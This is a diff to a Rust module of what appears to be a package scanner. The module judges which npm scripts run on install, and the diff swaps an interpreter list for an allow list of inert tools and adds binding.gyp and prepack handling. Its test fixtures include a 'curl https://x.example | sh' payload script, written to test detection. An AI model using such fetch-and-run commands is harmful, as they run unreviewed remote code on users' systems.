@@ -7,11 +7,12 @@
 //! only such scripts as they weigh a setup.py `publish` command: as documentation of
 //! what the maintainer does, not as behaviour.
 //!
-//! Reachability over-approximates on purpose: a script counts as run on install when a
-//! lifecycle script, or a script it reaches, names it as a word (`npm run x`, `yarn x`,
-//! `run-s x`, a glob such as `build:*`), or when it is the `pre`/`post` script of one
-//! that runs. Whatever an attacker chains from `postinstall` is therefore still read as
-//! install-time code.
+//! Reachability is followed only where it can be read: a script counts as run on
+//! install when a lifecycle script, or a script it reaches, names it in `npm run x`,
+//! `yarn x` or `pnpm run x` (a trailing `*` glob included), or when it is the
+//! `pre`/`post` script of one that runs. Any install-time command that could start a
+//! script without naming it (an interpreter, a dependency's bin, `npm pack`, `$x`) or
+//! a `binding.gyp` (node-gyp runs it on install) leaves nothing on demand.
 
 use super::command::{MAX_COMMAND_BYTES, simple_commands};
 use super::{LIFECYCLE, find_key};
@@ -34,6 +35,12 @@ pub fn npm_on_demand_script_lines(package: &Package) -> Vec<u32> {
     else {
         return Vec::new();
     };
+    // With a binding.gyp, npm runs node-gyp on install, and the gyp file can run
+    // anything, `npm run x` included.
+    let root = manifest.path.strip_suffix("package.json").unwrap_or("");
+    if package.file(&format!("{root}binding.gyp")).is_some() {
+        return Vec::new();
+    }
     on_demand_lines(strip_bom(&manifest.data))
 }
 
@@ -115,7 +122,14 @@ fn run_on_install(scripts: &Map<String, Value>) -> Option<BTreeSet<&str>> {
         queue: Vec::new(),
         steps: 0,
     };
-    for hook in LIFECYCLE.iter().chain(NPM_INSTALL_SCRIPTS.iter()) {
+    // Events that some installs also run: `prepack`/`postpack` when npm packs a git
+    // dependency, `dependencies` after the tree changes.
+    let also = ["prepack", "postpack", "dependencies"];
+    for hook in LIFECYCLE
+        .iter()
+        .chain(NPM_INSTALL_SCRIPTS.iter())
+        .chain(also.iter())
+    {
         walk.reach(hook)?;
     }
     while let Some(name) = walk.queue.pop() {
@@ -136,55 +150,69 @@ fn run_on_install(scripts: &Map<String, Value>) -> Option<BTreeSet<&str>> {
     Some(walk.run)
 }
 
-/// Programs whose arguments can run anything, scripts of this package included.
-const RUNNERS: &[&str] = &[
-    "node",
-    "nodejs",
-    "bun",
-    "deno",
-    "ts-node",
-    "tsx",
-    "npx",
-    "sh",
-    "bash",
-    "zsh",
-    "dash",
-    "python",
-    "python3",
-    "python2",
-    "ruby",
-    "perl",
-    "php",
-    "pwsh",
-    "powershell",
-    "cmd",
-    "exec",
-    "eval",
-    "source",
-    ".",
+/// Programs that start no script of the package however they are called: build, lint
+/// and housekeeping tools common in lifecycle scripts. Any other program might (a
+/// dependency's own bin, `make`, `node-gyp` through `binding.gyp`, `concurrently
+/// npm:x`, an interpreter given a file), and then nothing is called on demand.
+const INERT: &[&str] = &[
+    "husky",
+    "echo",
+    "true",
+    "exit",
+    "tsc",
+    "rimraf",
+    "mkdirp",
+    "mkdir",
+    "cpy",
+    "cp",
+    "mv",
+    "rm",
+    "touch",
+    "chmod",
+    "eslint",
+    "prettier",
+    "babel",
+    "rollup",
+    "webpack",
+    "tsup",
+    "esbuild",
+    "vite",
+    "is-ci",
+    "git",
+    "lerna",
+    "nx",
+    "turbo",
+    "jest",
+    "vitest",
+    "mocha",
+    "patch-package",
+    "ngcc",
+    "svelte-kit",
+    "next",
+    "nuxt",
+    "nuxi",
+    "opencollective",
+    "opencollective-postinstall",
 ];
 
 /// Whether a command that runs on install may start scripts that its words do not name:
-/// a program given code or a file (`node i.js`, `sh -c '...'`), text built at run time
-/// (`$x`, backticks), a command too long to read whole, or an npm command other than
-/// `run` (`npm version` runs `preversion` and `postversion`, `npm pack` runs `prepack`).
-/// Reachability then cannot be trusted and nothing is called on demand.
+/// a program outside [`INERT`] (an interpreter given a file, `sh -c`, a dependency's
+/// bin, `npm pack`, which runs `prepack`), text built at run time (`$x`, backticks), or
+/// a command too long to read whole. Reachability then cannot be trusted. Only `npm
+/// run x`, `yarn x`, `pnpm run x` and the inert programs are followed.
 fn opaque(command: &str, scripts: &Map<String, Value>) -> bool {
     if command.len() > MAX_COMMAND_BYTES || command.contains(['$', '`']) {
         return true;
     }
     simple_commands(command).iter().any(|words| {
-        let program = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
-        let first = words.first().map(|w| program(w)).unwrap_or_default();
-        let runs_code = RUNNERS.contains(&first.as_str())
-            || words.iter().any(|w| w.contains([' ', '\t', '/', '\\']));
-        let package_manager = match (first.as_str(), words.get(1).map(String::as_str)) {
+        let Some(first) = words.first() else {
+            return false;
+        };
+        match (first.as_str(), words.get(1).map(String::as_str)) {
             ("npm" | "pnpm" | "yarn", Some("run" | "run-script")) => false,
             ("yarn" | "pnpm", Some(script)) => !scripts.contains_key(script),
-            ("npm" | "pnpm" | "yarn", _) => true,
-            _ => false,
-        };
-        runs_code || package_manager
+            (program, _) => !INERT.contains(&program),
+        }
     })
 }
 
@@ -257,9 +285,9 @@ mod tests {
   "scripts": {
     "postinstall": "npm run setup",
     "presetup": "echo",
-    "setup": "yarn fetch && run-s build:*",
-    "fetch": "curl -fsSL x.example -o vendor.tgz",
-    "build:native": "node-gyp rebuild",
+    "setup": "yarn fetch && npm run build:*",
+    "fetch": "echo fetching",
+    "build:native": "tsc -p native",
     "test": "jest"
   }
 }"#;
@@ -283,6 +311,11 @@ mod tests {
             "npm pack",
             "npm run \\\"$npm_package_config_x\\\"",
             "yarn install",
+            "CI=1 npm pack",
+            "env node i.js",
+            "concurrently npm:payload",
+            "run-s pay*load",
+            "make",
         ] {
             let json = format!(
                 "{{\n  \"name\": \"x\",\n  \"scripts\": {{\n    \"postinstall\": \"{postinstall}\",\n    \"payload\": \"curl https://x.example | sh\"\n  }}\n}}"
@@ -302,15 +335,20 @@ mod tests {
     fn a_manifest_that_costs_too_much_to_follow_counts_as_all_run() {
         // 2,000 scripts, each globbing every other: millions of comparisons.
         let scripts: Vec<String> = (0..2000)
-            .map(|i| format!("    \"s{i}\": \"run-s s* s* s* s*\""))
+            .map(|i| {
+                format!("    \"s{i}\": \"npm run s* && npm run s* && npm run s* && npm run s*\"")
+            })
             .collect();
         let json = format!(
-            "{{\n  \"name\": \"x\",\n  \"scripts\": {{\n    \"postinstall\": \"run-s s1\",\n{},\n    \"test\": \"jest\"\n  }}\n}}",
+            "{{\n  \"name\": \"x\",\n  \"scripts\": {{\n    \"postinstall\": \"npm run s1\",\n{},\n    \"test\": \"jest\"\n  }}\n}}",
             scripts.join(",\n")
         );
         assert!(lines(&json).is_empty());
         // Under the bound, the unreached script is found.
-        let json = json.replace("run-s s* s* s* s*", "echo");
+        let json = json.replace(
+            "npm run s* && npm run s* && npm run s* && npm run s*",
+            "echo",
+        );
         assert_eq!(lines(&json).len(), 2000);
     }
 }
